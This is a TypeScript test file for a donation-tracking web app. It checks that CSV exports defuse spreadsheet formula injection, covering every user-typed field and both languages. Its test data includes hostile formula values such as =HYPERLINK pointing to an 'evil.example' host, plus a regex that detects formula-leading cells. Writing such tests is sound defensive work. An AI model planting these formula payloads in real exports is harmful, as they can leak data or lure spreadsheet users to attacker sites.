import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../src/app.js';
import { toCsv } from '../../src/shared/csv.js';
import { parseCsv } from '../helpers/csv.js';
import { CSV_TABLES } from '../../src/stats/csv.js';
import { buildApp, signedIn } from '../helpers/app.js';
import { openTestDatabase, type TestDatabase } from '../helpers/db.js';
import { createDonation, markPickedUp } from '../helpers/donation-factories.js';
import { createOrgWithUser, createUser } from '../helpers/factories.js';
import {
  createProducerOrg,
  createWithdrawal,
  insertRate,
} from '../helpers/withdrawal-factories.js';

/**
 * Every text a user types that reaches a CSV export starts with what a spreadsheet runs as a
 * formula (or, for tab and carriage return, what it trims before running one). No cell of any
 * export may then begin with = + - @ tab or CR: the one CSV writer defuses them all.
 */
const PREFIXES = ['=', '+', '-1+', '@', '\t=', '\r='];
const hostile = (p: string, what: string) => `${p}HYPERLINK("http://evil.example/${what}","x")`;
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestDatabase;
let app: ReturnType<typeof createApp>;
beforeAll(async () => {
  t = await openTestDatabase();
  app = buildApp(t.db).app;
});
afterAll(async () => t?.close());

/** One shop, association, producer organisation and product whose every typed text is hostile. */
async function hostileWorld(p: string, n: number) {
  const text = (what: string) => hostile(p, what);
  const shop = await createOrgWithUser(t.db, 'shop', {
    name: text('shop_name'),
    town: text('shop_town'),
  });
  const assoc = await createOrgWithUser(t.db, 'association', {
    name: text('assoc_name'),
    town: text('assoc_town'),
  });
  const d = await createDonation(t.db, {
    shopId: shop.org.id,
    description: text('description'),
    value_eur: 12,
    date_kind: 'best_before',
    product_date: '2026-12-31',
  });
  await markPickedUp(t.db, d.id, {
    associationId: assoc.org.id,
    at: '2026-11-20T10:00:00+01:00',
    quality: 'poor',
    issues: text('issues'),
  });
  await t.db
    .insertInto('quality_actions')
    .values({
      donation_id: d.id,
      shop_id: shop.org.id,
      action: text('corrective_action'),
      created_by: shop.user.id,
      created_at: new Date('2026-11-21T10:00:00Z'),
    })
    .execute();
  const po = await createProducerOrg(t.db, { overrides: { name: text('po_name') } });
  const product = `hostile_${n}`;
  await t.db
    .insertInto('withdrawal_products')
    .values({
      key: product,
      name_fr: text('product_fr'),
      name_en: text('product_en'),
      cn_code: text('cn_code'),
    })
    .execute();
  const rate = await insertRate(t.db, product, 10, '2026-01-01');
  await t.db
    .updateTable('withdrawal_rates')
    .set({ source: text('rate_source') })
    .where('id', '=', rate.id)
    .execute();
  await createWithdrawal(t.db, {
    producerOrgId: po.org.id,
    associationId: assoc.org.id,
    product,
    quantityKg: 100,
    receivedKg: 100,
    date: '2026-11-20',
    certificateNumber: text('certificate'),
  });
  return { shop, assoc, po };
}

describe('spreadsheet formula injection', () => {
  it('no cell of any CSV export begins with = + - @ tab or CR, whatever users typed', async () => {
    const admin = await createUser(t.db, { isAdmin: true });
    const failures: string[] = [];
    const reached = new Set<string>();
    const clients: Record<string, Awaited<ReturnType<typeof signedIn>>> = {};
    for (const [n, p] of PREFIXES.entries()) {
      const w = await hostileWorld(p, n);
      const YEAR = 'period=custom&from=2026-01-01&to=2026-12-31';
      const exports: [string, string][] = [
        ...CSV_TABLES.flatMap((table): [string, string][] => [
          [admin.email, `/dashboard.csv?table=${table}&${YEAR}`],
          [admin.email, `/dashboard?format=csv&table=${table}&${YEAR}`],
          [w.shop.user.email, `/dashboard.csv?table=${table}&${YEAR}`],
        ]),
        [admin.email, `/quality.csv?${YEAR}`],
        [w.shop.user.email, `/quality.csv?${YEAR}`],
        [w.assoc.user.email, `/quality.csv?${YEAR}`],
        [
          w.assoc.user.email,
          `/receipts.csv?shop=${w.shop.org.id}&association=${w.assoc.org.id}&year=2026`,
        ],
        [
          w.shop.user.email,
          `/receipts.csv?shop=${w.shop.org.id}&association=${w.assoc.org.id}&year=2026`,
        ],
        [w.po.user.email, '/withdrawals.csv?campaign=2026'],
        [admin.email, '/withdrawals.csv?campaign=2026'],
      ];
      for (const [email, bare] of exports.flatMap(([e, p]) =>
        (['fr', 'en'] as const).map((l) => [e, `${p}${p.includes('?') ? '&' : '?'}lang=${l}`]),
      )) {
        const path = bare;
        const sep = path.endsWith('lang=fr') ? ';' : ',';
        clients[email] ??= await signedIn(app, email);
        const res = await clients[email].get(path);
        if (res.status !== 200) {
          failures.push(`${JSON.stringify(p)} ${path}: status ${res.status}`);
          continue;
        }
        expect(res.headers.get('content-type'), path).toContain('text/csv');
        for (const [r, row] of parseCsv(await res.text(), sep).entries())
          for (const cell of row) {
            for (const m of cell.matchAll(/evil\.example\/(\w+)/g)) reached.add(m[1]);
            if (FORMULA_START.test(cell))
              failures.push(`${JSON.stringify(p)} ${path} row ${r}: ${JSON.stringify(cell)}`);
          }
      }
    }
    expect(failures, 'cells a spreadsheet would run').toEqual([]);
    // every hostile text did reach an export (so the check above had something to catch)
    expect([...reached].sort()).toEqual(
      [
        'assoc_name',
        'assoc_town',
        'certificate',
        'cn_code',
        'corrective_action',
        'description',
        'issues',
        'po_name',
        'product_en',
        'rate_source',
        'shop_name',
        'shop_town',
      ].sort(),
    );
  });
});

describe('the one CSV writer', () => {
  it('defuses text, tab and carriage return included, and leaves numbers as numbers', () => {
    expect(toCsv([[-3, 1.5, '-3', '=1', '+1', '@A1', '\t=1', '\r=1', 'a;b', 'a\nb', 'ok']])).toBe(
      `-3,1.5,'-3,'=1,'+1,'@A1,'\t=1,"'\r=1","a;b","a\nb",ok\r\n`,
    );
  });
});
